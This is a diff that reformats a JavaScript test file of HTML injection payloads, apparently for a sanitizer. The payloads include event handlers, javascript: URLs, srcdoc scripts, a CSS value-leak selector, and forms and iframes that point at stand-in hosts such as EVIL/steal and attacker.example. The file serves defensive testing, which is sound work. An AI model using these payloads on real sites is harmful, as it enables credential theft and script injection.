@@ -19,12 +19,15 @@ const handlers = attacks('handler', {
   'html-load': '<html onload="RUN" onfocus="RUN"><p>x</p></html>',
   scroll: '<div onscrollend="RUN" onwheel="RUN" onscroll="RUN"><br><br><br></div>',
   'before-match': '<section hidden="until-found" onbeforematch="RUN">x</section>',
-  'pointer-raw': '<table onpointerrawupdate="RUN" onmouseover="RUN"><tr><td onclick="RUN">x</td></tr></table>',
-  'media-error': '<video src="/missing" onerror="RUN"></video><audio src="/missing" onerror="RUN"></audio>',
+  'pointer-raw':
+    '<table onpointerrawupdate="RUN" onmouseover="RUN"><tr><td onclick="RUN">x</td></tr></table>',
+  'media-error':
+    '<video src="/missing" onerror="RUN"></video><audio src="/missing" onerror="RUN"></audio>',
   'source-error': '<video><source src="/missing" onerror="RUN"></video>',
   marquee: '<marquee onstart="RUN" onbounce="RUN">x</marquee>',
   'iframe-load': '<iframe src="https://www.youtube.com/embed/abc" onload="RUN"></iframe>',
-  'in-allowed-tags': '<p onclick="RUN"><em onfocusin="RUN">x</em><code onmouseenter="RUN">y</code></p>',
+  'in-allowed-tags':
+    '<p onclick="RUN"><em onfocusin="RUN">x</em><code onmouseenter="RUN">y</code></p>',
 })
 
 const elements = attacks('element', {
@@ -45,19 +48,25 @@ const elements = attacks('element', {
   base: '<base href="EVIL/"><img src="relative.png"><a href="relative">x</a>',
   'base-target': '<base target="_top" href="EVIL/">',
   'link-style': '<link rel="stylesheet" href="EVIL/x.css">',
-  'link-preload': '<link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/q">',
+  'link-preload':
+    '<link rel="preload" as="image" href="EVIL/p.png"><link rel="prefetch" href="EVIL/q">',
   'link-dns': '<link rel="dns-prefetch" href="EVIL"><link rel="preconnect" href="EVIL">',
   'link-modulepreload': '<link rel="modulepreload" href="EVIL/x.js">',
   'link-manifest': '<link rel="manifest" href="EVIL/m.json"><link rel="icon" href="EVIL/i.png">',
   'import-map': '<script type="importmap">{"imports":{"react":"EVIL/react.js"}}</script>',
-  'speculation-rules': '<script type="speculationrules">{"prerender":[{"urls":["EVIL/"]}]}</script>',
+  'speculation-rules':
+    '<script type="speculationrules">{"prerender":[{"urls":["EVIL/"]}]}</script>',
   'video-poster': '<video poster="EVIL/p.png" controls></video>',
   'audio-autoplay': '<audio src="EVIL/a.mp3" autoplay></audio>',
   'input-image': '<input type="image" src="EVIL/i.png" onerror="RUN">',
-  'body-background': '<body background="EVIL/b.png"><table background="EVIL/t.png"><tr><td>x</td></tr></table></body>',
-  dialog: '<dialog open onclose="RUN"><form method="dialog"><button autofocus>ok</button></form></dialog>',
-  popover: '<button popovertarget="pop">x</button><div popover id="pop" onbeforetoggle="RUN">y</div>',
-  'custom-element': '<x-widget onclick="RUN" is="x">x</x-widget><button is="x-b" onclick="RUN">y</button>',
+  'body-background':
+    '<body background="EVIL/b.png"><table background="EVIL/t.png"><tr><td>x</td></tr></table></body>',
+  dialog:
+    '<dialog open onclose="RUN"><form method="dialog"><button autofocus>ok</button></form></dialog>',
+  popover:
+    '<button popovertarget="pop">x</button><div popover id="pop" onbeforetoggle="RUN">y</div>',
+  'custom-element':
+    '<x-widget onclick="RUN" is="x">x</x-widget><button is="x-b" onclick="RUN">y</button>',
 })
 
 const meta = attacks('meta', {
@@ -71,26 +80,33 @@ const meta = attacks('meta', {
 })
 
 const forms = attacks('form', {
-  action: '<form action="EVIL/steal"><input name="password" autofocus><button>Sign in again</button></form>',
+  action:
+    '<form action="EVIL/steal"><input name="password" autofocus><button>Sign in again</button></form>',
   'action-script': '<form action="javascript:RUN"><button id="go">x</button></form>',
-  formaction: '<form><button formaction="javascript:RUN">x</button><input type="submit" formaction="EVIL/"></form>',
-  'outer-form': '</div></form><form id="settings" action="EVIL/"><input type="hidden" name="role" value="admin">',
+  formaction:
+    '<form><button formaction="javascript:RUN">x</button><input type="submit" formaction="EVIL/"></form>',
+  'outer-form':
+    '</div></form><form id="settings" action="EVIL/"><input type="hidden" name="role" value="admin">',
   'form-owner': '<button form="settings-form" formaction="EVIL/steal">Continue</button>',
   isindex: '<isindex action="javascript:RUN" prompt="x" type="submit">',
-  'select-keygen': '<select autofocus onfocus="RUN"><option>x</select><keygen autofocus onfocus="RUN">',
+  'select-keygen':
+    '<select autofocus onfocus="RUN"><option>x</select><keygen autofocus onfocus="RUN">',
   'textarea-dangling': '<form action="EVIL/"><input type="submit"><textarea name="page">',
 })
 
 const styles = attacks('style', {
   attribute: '<p style="background:url(EVIL/a.png)">x</p>',
-  'attribute-cover': '<a href="#" style="position:fixed;inset:0;z-index:99999;background:url(\'EVIL/b\')">x</a>',
+  'attribute-cover':
+    '<a href="#" style="position:fixed;inset:0;z-index:99999;background:url(\'EVIL/b\')">x</a>',
   'attribute-expression': '<p style="width:expression(RUN);behavior:url(EVIL/x.htc)">x</p>',
   'attribute-import': '<p style="@import \'EVIL/x.css\'">x</p>',
   element: '<style>@import "EVIL/x.css"; body { background: url(EVIL/bg) }</style>',
   'element-selector-leak': '<style>input[value^="a"] { background: url(EVIL/a) }</style>',
   'element-breakout': '<style></style><img src="/missing-image" onerror="RUN"></style>',
-  'element-animation': '<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="RUN">x</p>',
-  'class-of-the-page': '<div class="fixed inset-0 z-50 modal dialog-backdrop">covers the page</div>',
+  'element-animation':
+    '<style>@keyframes k{}p{animation:k 1s}</style><p onanimationstart="RUN">x</p>',
+  'class-of-the-page':
+    '<div class="fixed inset-0 z-50 modal dialog-backdrop">covers the page</div>',
   'font-face': '<style>@font-face{font-family:x;src:url(EVIL/f.woff2)}*{font-family:x}</style>',
 })
 
@@ -99,12 +115,15 @@ const frames = attacks('frame', {
   script: '<iframe src="javascript:parent.RUN"></iframe>',
   srcdoc: '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
   'srcdoc-entities': '<iframe srcdoc="&lt;img src=x onerror=&quot;parent.RUN&quot;&gt;"></iframe>',
-  'srcdoc-beside-video': '<iframe src="https://www.youtube.com/embed/dQw4w9WgXc" srcdoc="<script>parent.RUN</script>"></iframe>',
+  'srcdoc-beside-video':
+    '<iframe src="https://www.youtube.com/embed/dQw4w9WgXc" srcdoc="<script>parent.RUN</script>"></iframe>',
   data: '<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>',
   blob: '<iframe src="blob:EVIL/0000"></iframe>',
   'about-name': '<iframe src="about:blank" name="__pwned"></iframe>',
-  'host-in-user': '<iframe src="https://www.youtube.com@attacker.example/embed/dQw4w9WgXcQ"></iframe>',
-  'host-as-suffix': '<iframe src="https://www.youtube.com.attacker.example/embed/dQw4w9WgXcQ"></iframe>',
+  'host-in-user':
+    '<iframe src="https://www.youtube.com@attacker.example/embed/dQw4w9WgXcQ"></iframe>',
+  'host-as-suffix':
+    '<iframe src="https://www.youtube.com.attacker.example/embed/dQw4w9WgXcQ"></iframe>',
   'host-as-path': '<iframe src="EVIL/https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>',
   'host-as-fragment': '<iframe src="EVIL/#youtube.com/embed/dQw4w9WgXcQ"></iframe>',
   'id-breakout': '<iframe src="https://www.youtube.com/embed/x&quot;onload=&quot;RUN"></iframe>',
